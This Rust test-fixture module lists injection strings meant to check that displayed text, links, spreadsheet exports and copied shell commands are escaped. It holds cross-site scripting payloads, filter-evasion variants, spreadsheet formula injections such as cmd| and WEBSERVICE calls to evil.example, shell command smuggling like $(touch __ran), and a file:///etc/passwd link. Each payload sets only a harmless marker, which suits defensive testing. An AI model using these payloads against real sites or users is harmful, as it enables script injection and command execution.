//! Texts that attack whoever shows them, links to them, exports them or pastes them.
//!
//! The kinds are those of OWASP's cheat sheet on evading XSS filters, and those that hurt in
//! spreadsheets and shells; the strings are our own. Each is harmless but for one thing: where it
//! takes effect it leaves `__ran` behind, as a property of the window, a file or a visible word.

/// What every string sets, makes or says.
#[cfg(test)]
pub(super) const MARK: &str = "__ran";

/// For fields that are shown as text.
#[rustfmt::skip] // one line for each string, whatever its length
pub(super) const TEXTS: &[&str] = &[
    // Scripts as elements: plain, in odd case, nested in what a filter removes, unfinished.
    "<script>window.__ran=1</script>",
    "<ScRiPt\t>window.__ran=1</sCrIpT >",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "<script src=//evil.example/__ran.js",
    "</title></textarea></style><script>window.__ran=1</script>",
    "<!--><script>window.__ran=1</script-->",
    // Handlers of events, with each kind of quote and without.
    "<img src=x onerror=window.__ran=1>",
    "<img/src='x'/onerror='window.__ran=1'>",
    "<body onload=\"window.__ran=1\">",
    "<details open ontoggle=window.__ran=1>",
    "<input autofocus onfocus=window.__ran=1>",
    "<video><source onerror=window['__ran']=1></video>",
    "<div style=\"animation-name:a\" onanimationstart=\"window.__ran=1\"></div>",
    // Out of an attribute or a text literal that was put together without escaping.
    "\" onmouseover=\"window.__ran=1\" x=\"",
    "' autofocus onfocus='window.__ran=1' x='",
    "\"><img src=x onerror=window.__ran=1>",
    "`onerror=window.__ran=1`",
    "\";window.__ran=1;//",
    "\\\";window.__ran=1;//",
    "</script><script>window.__ran=1//",
    // Drawings, formulas and frames.
    "<svg onload=window.__ran=1>",
    "<svg><script>window&#46;__ran=1</script></svg>",
    "<svg><a href=\"javascript:window.__ran=1\"><text y=\"20\">⬇</text></a></svg>",
    "<math><mtext><style><img src=x onerror=window.__ran=1></style></mtext></math>",
    "<iframe srcdoc=\"<script>parent.__ran=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>top.__ran=1</script>\"></object>",
    "<base href=\"https://evil.example/__ran/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__ran=1\">",
    "<form action=\"javascript:window.__ran=1\"><button>OK</button></form>",
    "<style>@import 'https://evil.example/__ran.css';</style>",
    // Links of Markdown.
    "[图](javascript:window.__ran=1)",
    "![图](x\"onerror=\"window.__ran=1)",
    "[a]: javascript:window.__ran=1 'a'",
    // Encoded, for whoever decodes once too often.
    "&lt;script&gt;window.__ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__ran=1&#62;",
    "%3Cscript%3Ewindow.__ran%3D1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
    "＜script＞window.__ran=1＜/script＞",
    // Braces of templates.
    "{{constructor.constructor('window.__ran=1')()}}",
    "${window.__ran=1}",
    "<%= window.__ran=1 %>",
    "#{window.__ran=1}",
    // Null bytes, invisible and turning characters, a line of its own, a long word.
    "<scr\0ipt>window.__ran=1</scr\0ipt>",
    "<img src=x on\u{200b}error=window.__ran=1>",
    "\u{202e}>tpircs/<1=__ran.wodniw>tpircs<\u{202c} __ran",
    "\u{feff}\u{2066}gnp.exe__ran\u{2069}",
    "a\r\nSet-Cookie: __ran=1\r\n\r\n<script>window.__ran=1</script>",
    "__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran__ran",
    // Keys that an object of JavaScript has already.
    "__proto__[__ran]=1",
    // Formulas of spreadsheets, as the first character of a cell.
    "=cmd|'/C type nul > __ran'!A0",
    "+HYPERLINK(\"https://evil.example/__ran\",\"open\")",
    "-2+3+cmd|'/C echo __ran'!A0",
    "@SUM(1+1)*cmd|'/C echo __ran'!A0",
    "\t=WEBSERVICE(\"https://evil.example/__ran\")",
    "\",=cmd|'/C echo __ran'!A0,\"",
    // Shells, for commands that are copied.
    "; touch __ran #",
    "$(touch __ran)",
    "`touch __ran`",
    "' && touch __ran && echo '",
    "| tee __ran\n",
    "--config=__ran",
];

/// For fields that hold an address.
#[rustfmt::skip] // as above
pub(super) const LINKS: &[&str] = &[
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=1",
    "java\tscript:window.__ran=1",
    "java\nscript:window.__ran=1",
    "\u{1}javascript:window.__ran=1",
    " javascript:window.__ran=1",
    "javascript&colon;window.__ran=1",
    "javascript://example.com/%0Awindow.__ran=1",
    "vbscript:window.__ran=1",
    "data:text/html,<script>window.__ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19yYW49MTwvc2NyaXB0Pg==#__ran",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__ran=1'/>",
    "https://example.com/\" onerror=\"window.__ran=1",
    "https://example.com/'onmouseover='window.__ran=1",
    "https://example.com/);background:url(javascript:window.__ran=1",
    "https://user:__ran@evil.example\\@example.com/",
    "//evil.example/__ran.png",
    "file:///etc/passwd?__ran",
    "blob:https://example.com/__ran",
    "<script>window.__ran=1</script>",
    "https://example.com/__ran\0.png",
    "https://example.com/\u{202e}gnp.__ran",
];
